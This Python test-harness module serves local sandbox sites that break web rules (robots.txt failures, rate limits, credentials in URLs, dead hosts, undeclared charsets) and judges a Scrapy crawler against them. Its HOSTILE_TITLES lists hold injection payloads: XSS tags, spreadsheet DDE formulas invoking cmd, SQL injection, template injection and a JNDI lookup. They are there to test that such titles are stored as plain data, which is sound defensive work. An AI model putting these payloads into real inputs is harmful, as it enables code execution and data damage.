"""The rules of the real web, as small local sites: robots.txt that cannot be read, rate limits with
``Retry-After``, pages nested deeper than libxml2's default limit, and credentials in URLs.

Each :class:`RulesServer` serves one sandbox site (the ``openaccess`` site by default: its start page is the list)
on a port of its own, so that its ``robots.txt`` is the host's, and bends one rule of the web (:data:`RULES`):

- ``robots-oversize``: a ``robots.txt`` larger than ``DOWNLOAD_MAXSIZE`` whose first rule is ``Disallow: /``;
- ``robots-gzip``: the same, gzipped: a small download that decompresses past the cap;
- ``robots-503``: ``robots.txt`` answers 503, every time;
- ``robots-stall``: ``robots.txt`` never answers (the crawl's download timeout ends it);
- ``robots-refused``: nothing listens where ``robots.txt`` is asked for (the server closes every connection to it);
- ``robots-404``: ``robots.txt`` answers 404: the whole site may be crawled;
- ``rate-limit``: at most ``rate`` requests a second (a token bucket), the others answered 429 with
  ``Retry-After: 1``;
- ``retry-after``: one journal page answers 429 with ``Retry-After: RETRY_AFTER`` twice before it answers;
- ``deep``: every page's content nested in ``DEEP_NESTING`` ``<div>``\\ s;
- ``credentials``: the start page links its journals as ``http://user:secret@host:port/…``;
- ``redirect-loop``: one journal page redirects to another URL that redirects back to it, forever;
- ``start-refused``: the start URL is on a port where nothing listens (every connection refused);
- ``start-dropped``: the start URL is on a port whose handshakes go unanswered (a full accept queue drops them,
  as a machine that is down or firewalled does);
- ``start-unresolvable``: the start URL's host name resolves to nothing (``.invalid``);
- ``slow``: every answer leaves ``SLOW_SECONDS`` late, more than the first-contact probe's timeout;
- ``charset-ENCODING`` (:data:`CHARSET_RULES`): the journals carry titles in another script (Japanese, Russian…),
  shown in UTF-8 on the listing; their journal pages are served in ENCODING with no charset declared anywhere;
- ``titles-hostile`` (:data:`HOSTILE_RULES`): the journals carry titles of hostile text (markup, formulas, SQL),
  escaped in the pages as a site shows them; each must be stored as the page shows it.

:func:`rules_outcome` crawls one of them as a user does (``scrapy crawl publisher`` in a process of its own) and
says what held.
"""

from __future__ import annotations

import contextlib
import gzip
import html
import itertools
import re
import socket
import threading
import time
from collections.abc import Sequence
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from journals.sandbox.truth import world_truth
from journals.sandbox.web import SandboxWeb, WebResponse
from lab.reliability.harness import Crawl, CrawlResult, snapshot, url_path
from lab.reliability.scenarios import Outcome

RULES = (
    "robots-oversize",
    "robots-gzip",
    "robots-503",
    "robots-stall",
    "robots-refused",
    "robots-404",
    "rate-limit",
    "retry-after",
    "deep",
    "credentials",
    "redirect-loop",
    "start-refused",
    "start-dropped",
    "start-unresolvable",
    "slow",
)
CHARSET_RULES = ("charset-shift_jis", "charset-cp1251")
"""Undeclared legacy charsets (issue 25's cases); :data:`HELD_OUT_RULES` holds others."""
HOSTILE_RULES = ("titles-hostile",)
HELD_OUT_RULES = (
    "charset-euc_kr",
    "charset-koi8_r",
    "charset-gb18030",
    "charset-cp1253",
    "titles-hostile-other",
)
"""The same families with other parameters: other encodings and scripts, other hostile strings."""
ALL_RULES = (*RULES, *CHARSET_RULES, *HOSTILE_RULES, *HELD_OUT_RULES)
DISALLOWING = ("robots-oversize", "robots-gzip", "robots-503", "robots-stall", "robots-refused")
"""The rules under which nothing of the site may be crawled: robots.txt disallows all, or cannot be read."""
DEAD_START = ("start-refused", "start-dropped", "start-unresolvable")
"""The rules whose start host is not there at all: the crawl must say so, and soon."""
DEAD_START_BAR_SECONDS = 60.0
"""How soon a crawl of a dead start host must have ended (it took some 247 s before hosts were probed)."""
SLOW_SECONDS = 1.0
UNRESOLVABLE_HOST = "journals-sandbox.invalid"
"""A host name that resolves nowhere: ``.invalid`` is reserved for that (RFC 6761)."""
SITE = "openaccess"
ROBOTS_SIZE = 20 * 1024 * 1024
"""Bytes of the oversized robots.txt (past Scrapy's 16 MB ``DOWNLOAD_MAXSIZE``; its gzip is about 20 kB)."""
DEEP_NESTING = 300
RETRY_AFTER = 2
HIDDEN_WORD = "s3cret-pa55"
"""The password of the credentials rule: it must appear in no log line, stat or stored row."""
USER_INFO = "user:" + HIDDEN_WORD
"""The user name and password the credentials rule writes into URLs."""


def oversized_robots(size: int = ROBOTS_SIZE) -> bytes:
    """A robots.txt of ``size`` bytes whose first group disallows everything, padded with comment lines."""
    head = b"User-agent: *\nDisallow: /\n"
    line = b"# " + b"padding " * 12 + b"\n"
    return head + line * ((size - len(head)) // len(line) + 1)


class RulesServer(ThreadingHTTPServer):
    """One sandbox site on a port of its own, bending one rule of the web; it records every request it answers."""

    daemon_threads = True
    block_on_close = False

    def __init__(self, rule: str, *, seed: int = 1, journals: int = 300, site: str = SITE, rate: float = 5.0) -> None:
        if rule not in ALL_RULES:
            raise ValueError(f"unknown rule {rule!r}: one of {', '.join(ALL_RULES)}")
        super().__init__(("127.0.0.1", 0), _RulesHandler)
        self.rule = rule
        self.site = site
        self.web = SandboxWeb(seed=seed, size=journals)
        self.rate = rate
        self.served: list[tuple[float, str, int]] = []
        """(monotonic time, path and query, status) of every answer, in order."""
        self._lock = threading.Lock()
        self._tokens = rate
        self._refilled = time.monotonic()
        self._robots = oversized_robots() if rule in ("robots-oversize", "robots-gzip") else b""
        self._robots_gzip = gzip.compress(self._robots, compresslevel=9) if rule == "robots-gzip" else b""
        self._dead = (
            _dead_port(dropping=rule == "start-dropped") if rule in ("start-refused", "start-dropped") else None
        )
        self.titles: dict[str, str] = {}
        """The title each journal carries instead of its sandbox title (rules ``charset-*`` and ``titles-*``)."""
        self._retitle: re.Pattern[str] | None = None
        if rule.startswith(("charset-", "titles-")):
            self.titles = new_titles(rule, [j["values"]["title"] for j in self.truth()["journals"]])
            shown = {html.escape(old, quote=False): html.escape(new, quote=False) for old, new in self.titles.items()}
            shown |= {html.escape(old): html.escape(new) for old, new in self.titles.items()}
            self._shown_titles = shown
            alternatives = "|".join(re.escape(old) for old in sorted(shown, key=len, reverse=True))
            self._retitle = re.compile(rf"(?<!\w)(?:{alternatives})(?!\w)")
        self.retry_after_path = ""
        """The journal page that answers 429 twice (rule ``retry-after``), or that redirects in a loop (rule
        ``redirect-loop``), set from the truth."""

    @property
    def base_url(self) -> str:
        """``http://127.0.0.1:PORT``."""
        return f"http://127.0.0.1:{self.server_address[1]}"

    @property
    def start_url(self) -> str:
        """The site's start URL (with credentials under the ``credentials`` rule)."""
        if self.rule == "credentials":
            return f"http://{USER_INFO}@127.0.0.1:{self.server_address[1]}/{self.site}/"
        if self._dead is not None:
            return f"http://127.0.0.1:{self._dead[0].getsockname()[1]}/{self.site}/"
        if self.rule == "start-unresolvable":
            return f"http://{UNRESOLVABLE_HOST}:{self.server_address[1]}/{self.site}/"
        return f"{self.base_url}/{self.site}/"

    def truth(self) -> dict[str, Any]:
        """The sandbox truth of the served site."""
        truth: dict[str, Any] = world_truth(self.web, self.base_url)["sites"][self.site]
        return truth

    def take_token(self) -> bool:
        """Whether a request may be answered now under the rate limit (a bucket of ``rate`` tokens a second)."""
        with self._lock:
            now = time.monotonic()
            self._tokens = min(self.rate, self._tokens + (now - self._refilled) * self.rate)
            self._refilled = now
            if self._tokens < 1:
                return False
            self._tokens -= 1
            return True

    def record(self, path: str, status: int) -> None:
        """Record one answer."""
        with self._lock:
            self.served.append((time.monotonic(), path, status))

    def answers(self, path: str) -> list[tuple[float, int]]:
        """(time, status) of every answer to ``path``."""
        with self._lock:
            return [(t, status) for t, p, status in self.served if p == path]

    def handle_error(self, request: object, client_address: object) -> None:
        """A client that hung up is expected (the stalled robots.txt); nothing is printed."""

    def start_in_thread(self) -> None:
        """Serve in a daemon thread; :meth:`shutdown` stops it."""
        threading.Thread(target=self.serve_forever, name=f"rules-{self.rule}", daemon=True).start()

    def retitled(self, response: WebResponse, path: str) -> WebResponse:
        """A page with the journals' new titles; under a ``charset-ENCODING`` rule, a journal page is encoded in
        ENCODING and declares no charset (its header says ``text/html``, its ``<meta>`` is gone)."""
        assert self._retitle is not None
        page = self._retitle.sub(lambda m: self._shown_titles[m.group()], response.body.decode("utf-8"))
        if not (self.rule.startswith("charset-") and path.startswith(f"/{self.site}/journal/")):
            return WebResponse(response.status, page.encode("utf-8"), response.headers)
        page = re.sub(r"<meta charset=[^>]*>", "", page)
        encoding = self.rule.removeprefix("charset-")
        headers = {**response.headers, "Content-Type": "text/html"}
        return WebResponse(response.status, page.encode(encoding, errors="xmlcharrefreplace"), headers)

    def server_close(self) -> None:
        """Close the server and the dead start host's sockets."""
        super().server_close()
        for dead in self._dead or []:
            dead.close()


class _RulesHandler(BaseHTTPRequestHandler):
    server: RulesServer
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        key = parts.path + (f"?{parts.query}" if parts.query else "")
        rule = self.server.rule
        if rule == "slow":
            time.sleep(SLOW_SECONDS)
        if rule == "rate-limit" and not self.server.take_token():
            self.server.record(key, 429)
            self._send(WebResponse(429, b"Too many requests", {"Retry-After": "1", "Content-Type": "text/plain"}))
            return
        if parts.path == "/robots.txt":
            self._robots(key)
            return
        if rule == "retry-after" and parts.path == self.server.retry_after_path and len(self.server.answers(key)) < 2:
            self.server.record(key, 429)
            self._send(WebResponse(429, b"Slow down", {"Retry-After": str(RETRY_AFTER), "Content-Type": "text/plain"}))
            return
        if rule == "redirect-loop" and parts.path.rstrip("/") in (loop := self.server.retry_after_path, loop + "/"):
            self.server.record(key, 302)
            target = loop + "/" if parts.path == loop else loop
            self._send(WebResponse(302, b"", {"Location": target, "Content-Type": "text/plain"}))
            return
        response = self.server.web.respond(parts.path, parts.query, self.headers.get("Host", "127.0.0.1"))
        if response.status == 200 and "html" in response.headers.get("Content-Type", ""):
            if self.server._retitle is not None:
                response = self.server.retitled(response, parts.path)
            if rule == "deep":
                response.body = _nest(response.body, DEEP_NESTING)
            elif rule == "credentials":
                response.body = _with_credentials(response.body, self.server.server_address[1])
        self.server.record(key, response.status)
        self._send(response)

    def _robots(self, key: str) -> None:
        rule = self.server.rule
        self.server.record(key, {"robots-503": 503, "robots-404": 404}.get(rule, 200))
        if rule == "robots-stall":
            time.sleep(60)
            return
        if rule == "robots-refused":
            self.close_connection = True
            return
        if rule == "robots-503":
            self._send(WebResponse(503, b"Service unavailable", {"Content-Type": "text/plain"}))
        elif rule == "robots-404":
            self._send(WebResponse(404, b"Not found", {"Content-Type": "text/plain"}))
        elif rule == "robots-oversize":
            self._send(WebResponse(200, self.server._robots, {"Content-Type": "text/plain"}))
        elif rule == "robots-gzip":
            headers = {"Content-Type": "text/plain", "Content-Encoding": "gzip"}
            self._send(WebResponse(200, self.server._robots_gzip, headers))
        else:
            self._send(WebResponse(200, b"User-agent: *\nDisallow: /search\n", {"Content-Type": "text/plain"}))

    def _send(self, response: WebResponse) -> None:
        self.send_response(response.status)
        for name, value in response.headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(response.body)))
        self.end_headers()
        with contextlib.suppress(ConnectionError):
            self.wfile.write(response.body)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet: the server's record is :attr:`RulesServer.served`."""


NATIVE_WORDS: dict[str, tuple[tuple[str, ...], ...]] = {
    "Cyrillic": (
        ("Вестник", "Журнал", "Известия", "Труды", "Записки", "Обзоры"),
        ("прикладной", "теоретической", "клинической", "современной", "морской", "общей"),
        ("химии", "физики", "медицины", "экономики", "истории", "акустики"),
    ),
    "Japanese": (
        ("日本", "国際", "応用", "臨床", "理論", "現代"),
        ("物理", "化学", "医学", "経済", "歴史", "音響"),
        ("学会誌", "研究", "ジャーナル", "レビュー", "紀要", "論集"),
    ),
    "Korean": (
        ("한국", "국제", "응용", "임상", "이론", "현대"),
        ("물리", "화학", "의학", "경제", "역사", "음향"),
        ("학회지", "연구", "저널", "리뷰", "논총", "학보"),
    ),
    "Chinese": (
        ("中国", "国际", "应用", "临床", "理论", "现代"),
        ("物理", "化学", "医学", "经济", "历史", "声学"),
        ("学报", "研究", "杂志", "评论", "进展", "通讯"),
    ),
    "Greek": (
        ("Επιθεώρηση", "Αρχεία", "Χρονικά", "Δελτίο", "Πρακτικά", "Μελέτες"),
        ("Εφαρμοσμένης", "Θεωρητικής", "Κλινικής", "Σύγχρονης", "Θαλάσσιας", "Γενικής"),
        ("Χημείας", "Φυσικής", "Ιατρικής", "Οικονομίας", "Ιστορίας", "Ακουστικής"),
    ),
}
"""Words of journal titles in each script: a title is one word of each row."""
SCRIPT_OF_ENCODING = {
    "shift_jis": "Japanese",
    "euc_jp": "Japanese",
    "cp1251": "Cyrillic",
    "koi8_r": "Cyrillic",
    "euc_kr": "Korean",
    "gb18030": "Chinese",
    "cp1253": "Greek",
}
HOSTILE_TITLES: dict[str, tuple[str, ...]] = {
    "titles-hostile": (
        '"><img src=x onerror=alert(1)> Journal of Images',
        "-2+3+cmd|' /C calc'!A0 Journal",
        '=HYPERLINK("http://example.invalid/?x","Journal of Links")',
        "+SUM(1+1) Journal of Sums",
        "@SUM(1+1) Journal of Ats",
        "Robert'); DROP TABLE journals;-- Journal",
        "<script>alert('x')</script> Journal of Scripts",
        "Journal of {{7*7}} Templates",
    ),
    "titles-hostile-other": (
        "</title><svg onload=alert(2)> Annals of Markup",
        "-1+1+cmd|' /C notepad'!B2 Review",
        "=1+2 Quarterly of Formulas",
        "@cmd|' /C dir'!C3 Letters",
        "' OR '1'='1' -- Journal of Queries",
        "${jndi:ldap://example.invalid/a} Journal of Logs",
        'Journal & <b>Bold</b> "Quotes" Review',
        "javascript:alert(3) Proceedings",
    ),
}
"""Titles of hostile text: markup, spreadsheet formulas, SQL and template injections. A title is data: each must be
stored exactly as the page shows it."""


def new_titles(rule: str, titles: list[str]) -> dict[str, str]:
    """The title each journal carries under ``rule``, by its sandbox title: every journal a title in the script of
    a ``charset-ENCODING`` rule, the first journals a hostile title under a ``titles-*`` rule."""
    if rule in HOSTILE_TITLES:
        return dict(zip(titles, HOSTILE_TITLES[rule], strict=False))
    first, second, third = NATIVE_WORDS[SCRIPT_OF_ENCODING[rule.removeprefix("charset-")]]
    spaced = " " if SCRIPT_OF_ENCODING[rule.removeprefix("charset-")] not in ("Japanese", "Chinese") else ""
    return {
        title: spaced.join((first[i % 6], second[i // 6 % 6], third[(i + i // 6) % 6]))
        for i, title in enumerate(titles)
    }


def _dead_port(*, dropping: bool) -> list[socket.socket]:
    """A local port where no web server answers, as sockets to keep open until the rule's server closes: the first
    one's port refuses every connection (its socket bound, never listening) or, ``dropping``, drops every handshake
    (it listens with an accept queue the others fill and nobody empties)."""
    port = socket.socket()
    port.bind(("127.0.0.1", 0))
    if not dropping:
        return [port]
    port.listen(0)
    fillers = []
    for _ in range(3):
        filler = socket.socket()
        filler.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            filler.connect(port.getsockname())
        fillers.append(filler)
    return [port, *fillers]


def _nest(body: bytes, depth: int) -> bytes:
    """The page with its ``<body>``'s content inside ``depth`` nested ``<div>``\\ s."""
    match = re.search(rb"<body[^>]*>", body)
    end = body.rfind(b"</body>")
    if match is None or end < match.end():
        return body
    inner = body[match.end() : end]
    return body[: match.end()] + b"<div>" * depth + inner + b"</div>" * depth + body[end:]


def _with_credentials(body: bytes, port: int) -> bytes:
    """The page with every link to a journal page written as an absolute URL carrying a user name and password."""
    authority = f"http://{USER_INFO}@127.0.0.1:{port}".encode()
    return re.sub(rb'href="(/%s/journal[^"]*)"' % SITE.encode(), rb'href="' + authority + rb'\1"', body)


@dataclass
class RulesRun:
    """One crawl of a rules site: the server's record, the crawl's result and the journals stored."""

    server: RulesServer
    result: CrawlResult
    truth: dict[str, Any]
    stored: dict[str, str | None]
    """Title of every journal stored, by URL path."""

    @property
    def journals_lost(self) -> list[str]:
        """URL paths of the site's journals not stored."""
        return [url_path(j["url"]) for j in self.truth["journals"] if url_path(j["url"]) not in self.stored]

    @property
    def pages_served(self) -> list[str]:
        """Paths the server answered, robots.txt left out."""
        return [path for _, path, _ in self.server.served if path != "/robots.txt"]


def rules_crawl(
    folder: Path, name: str, settings: Sequence[str] = (), *, seed: int = 1, rule: str | None = None
) -> RulesRun:
    """Serve the site of ``rule`` (default: ``name``), crawl it to its end into ``folder/NAME.db`` and collect what
    happened."""
    rule = rule or name
    server = RulesServer(rule, seed=seed)
    server.start_in_thread()
    try:
        truth = server.truth()
        if rule in ("retry-after", "redirect-loop"):
            server.retry_after_path = url_path(truth["journals"][0]["url"])
        database_url = f"sqlite:///{folder / name}.db"
        crawl = Crawl(
            server.start_url, database_url, folder / f"{name}.log", None, ("HTTPCACHE_ENABLED=False", *settings)
        )
        result = crawl.run()
    finally:
        server.shutdown()
        server.server_close()
    stored = {row[1]: row[2] for row in snapshot(database_url)} if (folder / f"{name}.db").exists() else {}
    return RulesRun(server, result, truth, stored)


RULE_SETTINGS: dict[str, tuple[str, ...]] = {
    "robots-stall": ("DOWNLOAD_TIMEOUT=2", "RETRY_TIMES=1"),
    "slow": ("FIRST_CONTACT_TIMEOUT=0.5",),
}
"""Settings a rule's crawl runs with: a robots.txt that never answers is given up after a try of 2 s; a slow site's
answers come later than the first-contact probe's timeout."""


def rules_outcome(folder: Path, rule: str, *, production: bool = False, seed: int = 1) -> Outcome:
    """Crawl the site of ``rule`` (with ``settings.production`` when asked) and judge it against issue 25's bars:
    a site whose robots.txt cannot be read is not crawled and fails the crawl; every other site gives every journal,
    no password shows in the log or the database, ``Retry-After`` is waited for."""
    name = f"rules of the web: {rule}" + (" (AutoThrottle, as settings.production)" if production else "")
    outcome = Outcome(name)
    settings = RULE_SETTINGS.get(rule, ())
    if production:
        settings = (
            *settings,
            "AUTOTHROTTLE_ENABLED=True",
            "AUTOTHROTTLE_START_DELAY=0.05",
            "CONCURRENT_REQUESTS_PER_DOMAIN=4",
        )
    started = time.monotonic()
    run = rules_crawl(folder, f"{rule}{'-production' if production else ''}", settings, seed=seed, rule=rule)
    stats = run.result.stats
    statuses = [status for _, _, status in run.server.served]
    outcome.figures.update(
        exit_status=run.result.returncode,
        wall_seconds=round(time.monotonic() - started, 1),
        journals=len(run.truth["journals"]),
        journals_stored=len(run.stored),
        pages_served=len(run.pages_served),
        answers_429=statuses.count(429),
        robotstxt={k.removeprefix("robotstxt/"): v for k, v in stats.items() if k.startswith("robotstxt/")},
        ratelimit={k.removeprefix("ratelimit/"): v for k, v in stats.items() if k.startswith("ratelimit/")},
    )
    if "Traceback" in run.result.log:
        outcome.problems.append("a traceback in the log")
    if rule in DEAD_START:
        return _judge_dead_start(outcome, run)
    if rule in DISALLOWING:
        return _judge_disallowed(outcome, run)
    if run.server.titles:
        _judge_titles(outcome, run)
    expected_lost = [run.server.retry_after_path] if rule == "redirect-loop" else []
    lost = [path for path in run.journals_lost if path not in expected_lost]
    outcome.figures["journals_lost"] = len(lost)
    if lost:
        outcome.problems.append(f"{len(lost)} journals lost, e.g. {lost[:3]}")
    if rule == "redirect-loop" and not stats.get("journals/failed_pages/redirect_loop"):
        outcome.problems.append("the journal lost to a redirect loop was not counted as a failed page")
    if run.result.returncode != 0:
        outcome.problems.append(f"exit status {run.result.returncode}")
    if rule == "rate-limit" and not statuses.count(429):
        outcome.problems.append("the site never refused a request: the scenario shows nothing")
    if rule == "retry-after":
        times = [t for t, _ in run.server.answers(run.server.retry_after_path)]
        gaps = [round(later - earlier, 2) for earlier, later in itertools.pairwise(times)]
        outcome.figures["retry_after_gaps_seconds"] = gaps
        if any(gap < RETRY_AFTER - 0.05 for gap in gaps):
            outcome.problems.append(f"retried after {gaps} s, Retry-After said {RETRY_AFTER} s")
    if rule == "credentials" and HIDDEN_WORD in run.result.log:
        outcome.problems.append("the password is in the log")
    return outcome


def _judge_dead_start(outcome: Outcome, run: RulesRun) -> Outcome:
    """A start host that is not there: the crawl fails its health check naming the start page, without retries,
    within :data:`DEAD_START_BAR_SECONDS`."""
    stats = run.result.stats
    outcome.figures.update(
        journals_lost=0,
        retries=stats.get("retry/count", 0),
        first_contact={k.removeprefix("first_contact/"): v for k, v in stats.items() if k.startswith("first_contact/")},
    )
    reasons = " ".join(stats.get("health/reasons", []))
    if run.result.returncode != 3 or "could not be fetched" not in reasons:
        outcome.problems.append(f"exit status {run.result.returncode}, health reasons {reasons!r}: not a dead start")
    if outcome.figures["wall_seconds"] > DEAD_START_BAR_SECONDS:
        outcome.problems.append(f"a dead start host took {outcome.figures['wall_seconds']} s to report")
    return outcome


def _judge_disallowed(outcome: Outcome, run: RulesRun) -> Outcome:
    """A site whose robots.txt cannot be read: nothing of it fetched, the health check failed."""
    outcome.figures["journals_lost"] = 0
    if run.pages_served:
        outcome.problems.append(f"{len(run.pages_served)} pages fetched though robots.txt could not be read")
    if run.result.returncode != 3:
        outcome.problems.append(f"exit status {run.result.returncode}, not 3 (health check failed)")
    return outcome


def _judge_titles(outcome: Outcome, run: RulesRun) -> None:
    """Every journal stored under the title its page shows (its new title when it has one)."""
    wrong = {
        path: (run.stored[path], run.server.titles.get(j["values"]["title"], j["values"]["title"]))
        for j in run.truth["journals"]
        if (path := url_path(j["url"])) in run.stored
        and run.stored[path] != run.server.titles.get(j["values"]["title"], j["values"]["title"])
    }
    outcome.figures["titles_not_as_shown"] = len(wrong)
    if wrong:
        stored, shown = next(iter(wrong.values()))
        outcome.problems.append(f"{len(wrong)} titles not stored as shown, e.g. {stored!r} for {shown!r}")
